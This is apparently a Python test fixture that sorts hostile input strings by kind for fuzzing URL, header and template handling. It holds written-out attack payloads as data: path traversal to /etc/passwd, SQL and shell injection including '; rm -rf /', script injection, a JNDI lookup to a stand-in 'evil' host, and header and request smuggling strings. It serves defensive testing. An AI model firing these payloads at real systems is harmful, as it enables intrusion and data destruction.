"""The hostile values, by kind; a kind's spellings are variants of one idea."""

from __future__ import annotations

from datetime import datetime
from decimal import Decimal
from typing import Any, NamedTuple

__all__ = ["KINDS", "Kind"]

BIG = 64 * 1024


class Kind(NamedTuple):
    """One idea of what could go wrong, and the values that try it.

    Attributes:
        name: Shown as the test's parameter.
        spellings: The values.
    """

    name: str
    spellings: tuple[Any, ...]

    @property
    def textual(self) -> bool:
        """Whether all of it is text."""
        return all(isinstance(value, str) for value in self.spellings)


def _each(characters: str) -> tuple[str, ...]:
    """Each of some characters alone, first, last and in the middle."""
    return tuple(text for c in characters for text in (c, f"{c}a", f"a{c}", f"a{c}b"))


def _inside(characters: str) -> tuple[str, ...]:
    return tuple(f"a{c}b" for c in characters)


KINDS = [
    # Nothing, and almost nothing
    Kind("empty", ("",)),
    Kind("one space", (" ",)),
    Kind("one tab", ("\t",)),
    Kind("leading space", (" a", "  a")),
    Kind("trailing space", ("a ", "a  ")),
    Kind("inner spaces", ("a b", "a  b", " a b ")),
    Kind("leading and trailing tab", ("\ta", "a\t")),
    Kind("inner tab", ("a\tb",)),
    # Controls
    Kind("NUL", _each("\0")),
    Kind("line feed", _each("\n")),
    Kind("carriage return", _each("\r")),
    Kind("line break", (*_each("\r\n"), "\r\n", "\r\n\r\n", "\n\r")),
    Kind("a header after a line break", ("a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\rX-Evil: 1")),
    Kind(
        "a request after a line break",
        ("a HTTP/1.1\r\nHost: evil\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil\r\n\r\n",),
    ),
    Kind("a folded line", ("a\r\n b", "a\r\n\tb", "a\n b")),
    Kind("a line break percent-encoded", ("%0d%0a", "%0D%0A", "%0a", "%0d", "%0d%0aX-Evil:%201")),
    Kind("a line break encoded twice", ("%250d%250a", "%25250d%25250a")),
    Kind("a line break in unusual words", ("\\r\\n", "\\u000d\\u000a", "&#13;&#10;", "%u000a")),
    Kind("characters whose low byte is a line break", ("嘍嘊", "\u010d\u010a", "č\u010a")),
    Kind("a Unicode line break", _each("\u0085\u2028\u2029")),
    Kind("C0 controls", _inside("".join(map(chr, range(1, 0x20))))),
    Kind("vertical tab and form feed at the ends", ("\x0ba", "a\x0c", "\x1ca\x1f")),
    Kind("DEL", _each("\x7f")),
    Kind("C1 controls", _inside("".join(map(chr, range(0x80, 0xA0))))),
    Kind("escape sequences of a terminal", ("\x1b[2J\x1b[31m", "\x9b2J", "\x1b]0;evil\x07")),
    Kind("backspace over what was", ("abc\b\b\bx",)),
    # Unicode
    Kind("half of a surrogate pair", ("\ud800", "a\udfffb", "\udc80", "\udc00\ud800")),
    Kind("two halves that are no character", ("\ud83d\ude00",)),
    Kind("non-characters", ("\ufffe", "\uffff", "\U0010ffff", "\ufdd0")),
    Kind("bidirectional overrides", ("\u202egpj.exe", "\u2066a\u2069", "\u200f", "a\u061cb")),
    Kind("zero-width characters", ("a\u200bb", "\u200c", "\u200d", "a\u2060b")),
    Kind("byte order mark", ("\ufeff", "\ufeffa", "a\ufeff")),
    Kind("replacement character", ("\ufffd",)),
    Kind("a soft hyphen", ("a\u00adb",)),
    Kind("latin-1", ("ä", "é", "ÿ", "\u00a0", "¿")),
    Kind("unusual spaces at the ends", ("\u00a0a\u00a0", "\u2003a", "a\u3000")),
    Kind("outside latin-1", ("€", "日本", "Ж", "ſ", "\u0130", "ẞ")),
    Kind("astral characters", ("😀", "𝒳", "🇩🇪", "👩\u200d👩\u200d👧")),
    Kind("combining characters", ("e\u0301", "\u0301", "a" + "\u0300" * 200)),
    Kind("what normalisation would change", ("\u212b", "\ufb01", "\u00e9\u212b", "e\u0301\u030a")),
    Kind("full-width look-alikes", ("．．／", "％２ｅ", "＠", "＜script＞", "\uff0e\uff0e")),
    Kind("slashes that are none", ("a\u2215b", "a\u2044b", "a\u29f8b", "..\u2216..")),
    Kind("lower case of another length", ("\u0130", "\ufb01", "ß")),
    Kind("overlong UTF-8 percent-encoded", ("%c0%af", "%c0%ae%c0%ae", "%e0%80%af", "%ff%fe")),
    # Climbing out of the path
    Kind("one dot", (".",)),
    Kind("two dots", ("..",)),
    Kind("more dots", ("...", "....", ". .", ".. ", " ..", ".a", "a.", "..a")),
    Kind("dots percent-encoded", ("%2e", "%2e%2e", "%2E%2E", ".%2e", "%2e.")),
    Kind("dots encoded twice", ("%252e%252e", "%25252e%25252e", "%%32%65")),
    Kind("dots with a parameter", ("..;", "..;/", ".;a=b", "..;x/..;y")),
    Kind("dots and a slash", ("../", "/..", "../..", "a/../b", "/../", "./a", "a/.", "a/./b")),
    Kind("dots and an encoded slash", ("..%2f", "..%2F..", "%2e%2e%2f", "..%5c", "%2e%2e%5c")),
    Kind("dots and a backslash", ("..\\", "..\\..", "\\..\\", "a\\..\\b")),
    Kind("system files", ("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a")),
    Kind("dots and a NUL percent-encoded", ("..%00", "%00", "a%00.png", "%2500")),
    # Leaving the origin
    Kind("an absolute URL", ("http://evil.example/", "https://evil.example", "HTTP://evil")),
    Kind("other schemes", ("file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "a:b")),
    Kind("slash slash host", ("//evil.example", "//evil.example/a", "///evil", "a//evil")),
    Kind("backslash host", ("\\\\evil.example", "/\\evil.example", "\\/evil", "\\")),
    Kind("user information", ("@evil.example", "user:pass@evil.example", "a@b@c", ":x@evil/")),
    Kind("a port", (":80", ":@", ":1@evil:2", "127.0.0.1:1", "[::1]:80")),
    Kind("look-alike hosts", ("еxample.com", "xn--e1awd7f.com", "evil。example", "ｅvil．com")),
    # Delimiters
    Kind("slash", (*_each("/"), "//", "a/b/c")),
    Kind("question mark", (*_each("?"), "?admin=1", "a?b?c")),
    Kind("number sign", (*_each("#"), "a#b#c", "#/../x")),
    Kind("ampersand", (*_each("&"), "a&value=b", "&&", "&fixed=2")),
    Kind("equals sign", (*_each("="), "a=b=c", "==")),
    Kind("semicolon", (*_each(";"), "a;b=c", "a; b=c", "a; Path=/; HttpOnly")),
    Kind("comma", (*_each(","), "a, b", ",,")),
    Kind("plus", (*_each("+"), "1+1", "%2B", "+ +", "%20")),
    Kind("colon", (*_each(":"), "::")),
    Kind("at sign", (*_each("@"), "a@b")),
    Kind("tilde and the unreserved", (*_each("~"), "-._~", "A-Z_a.z~0")),
    Kind("double quote", (*_each('"'), '""', 'a"; filename="b', 'a"; name="other')),
    Kind("single quote", (*_each("'"), "''")),
    Kind("backslash", (*_each("\\"), "\\\\", 'a\\"b', "\\n", "a\\")),
    Kind("the other reserved", (*_inside("[]!$()*"), "!$&'()*+,;=:/?#[]@")),
    Kind("never allowed in a URL", (*_inside('<>^`|{}" '), '<>^`|{}"\\')),
    Kind("all printable ASCII", ("".join(map(chr, range(0x21, 0x7F))),)),
    # Percent
    Kind("percent", (*_each("%"), "%%", "100%", "%%%", "50% off")),
    Kind("half an escape", ("%2", "%g0", "%0", "a%", "%zz", "% 41")),
    Kind("escapes of plain letters", ("%41", "%61b", "%7e", "%7E")),
    Kind("escapes of delimiters", ("%2f", "%3f", "%23", "%26", "%3d", "%25", "%22", "%27", "%3b")),
    Kind("escapes twice and thrice", ("%252f", "%25252f", "%2525")),
    Kind("escapes of UTF-8", ("%e2%82%ac", "%F0%9F%98%80", "%u20ac", "%E2%82")),
    # What a template or format would take up
    Kind("a placeholder", ("{value}", "{x}", "{}", "{0}", "{self}", "{{value}}", "{", "}")),
    Kind("a configuration placeholder", ("${X}", "${X:default}", "$X", "${HOME}", "#{1+1}")),
    Kind("a format", ("%s", "%d%n", "%(value)s", "{0.__class__}", "{!r}", "%99999999s")),
    Kind("other templates", ("{{7*7}}", "<%= 1 %>", "{% raw %}", "${jndi:ldap://evil/a}", "`id`")),
    Kind(
        "names of the generated function", ("self", "url", "query", "_invoke", "request", "value")
    ),
    # What a reader at the other end might execute
    Kind("JSON text", ('{"a":1}', "[]", '"', "null", "true", '{"__proto__":{}}', "\\u0022")),
    Kind("SQL", ("' OR '1'='1", "1; DROP TABLE users --", "a'/*", 'x" UNION SELECT 1')),
    Kind("script", ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</a>")),
    Kind("XML", ("<!DOCTYPE a>", "&xxe;", "]]>", "<?xml?>")),
    Kind("shell", ("$(id)", "; rm -rf /", "| cat", "a && b", "> /tmp/x", "*", "~root")),
    Kind("LDAP and XPath", ("*)(uid=*", "admin')(&", "' or ''='")),
    Kind("HTTP text", ("GET / HTTP/1.1", "Host: evil", "HTTP/1.1 200 OK", "0", "chunked")),
    Kind("a boundary", ("--", "----", "--boundary--", "\r\n--boundary\r\n", "\r\n--")),
    # Names that mean something elsewhere
    Kind("header names", ("host", "Content-Length", "transfer-encoding", "Proxy-X", "connection")),
    Kind("cookie words", ("$Version", "Path", "expires", "a=b", "__Host-a", "a, b", 'a"b')),
    Kind(
        "reserved file names", ("CON", "NUL.txt", "aux", ".htaccess", "~", "-rf", "a.", "<stdin>")
    ),
    Kind("words that stand for values", ("None", "null", "NaN", "undefined", "True", "nil", "-0")),
    # Size
    Kind("64 KiB of letters", ("a" * BIG,)),
    Kind("64 KiB of percent signs", ("%" * BIG,)),
    Kind("64 KiB of characters outside ASCII", ("€" * BIG, "😀" * (BIG // 4))),
    Kind("64 KiB of slashes and dots", ("/." * (BIG // 2), "../" * (BIG // 3))),
    Kind("64 KiB of line breaks", ("\r\n" * (BIG // 2),)),
    Kind("64 KiB with a line break at the end", ("a" * BIG + "\r\nX-Evil: 1",)),
    Kind("64 KiB of spaces", ("a" + " " * BIG + "b",)),
    Kind("long digits", ("9" * 5000, "-" + "1" * 400, "0x" + "f" * 100, "1e999")),
    # Not text
    Kind("numbers", (0, -1, 2**63, 10**300, 1.5, -0.0, 1e300, Decimal("1E+5"))),
    Kind(
        "numbers that are none", (float("nan"), float("inf"), Decimal("NaN"), Decimal("-Infinity"))
    ),
    Kind("an integer that Python will not print", (10**5000, -(10**5000))),
    Kind("truth", (True, False)),
    Kind("bytes", (b"a", bytearray(b"a"), memoryview(b"a"))),
    Kind("a time without a zone", (datetime(2026, 1, 2, 3, 4),)),
    Kind("objects without a text", (object(), {"a": 1}, type, ValueError("a"))),
]
